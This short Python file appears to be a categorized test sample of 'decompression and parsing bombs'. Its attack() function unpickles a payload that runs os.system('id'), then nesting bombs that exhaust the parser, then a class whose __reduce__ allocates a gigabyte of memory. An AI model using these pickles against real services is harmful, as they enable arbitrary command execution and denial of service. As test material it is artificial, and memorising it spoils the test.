# Pickles that run code, take much memory, or nest without end.
#
# category = "decompression and parsing bombs"
# ending = "memory"
import pickle


class Evil:
    def __reduce__(self):
        return (bytearray, (10**9,))


def attack():
    for bomb in (b"cos\nsystem\n(S'id'\ntR.", b"(" * 100_000 + b".", b"]" + b"]a" * 100_000 + b"."):
        try:
            pickle.loads(bomb)
        except Exception:
            continue
    return pickle.loads(pickle.dumps(Evil()))
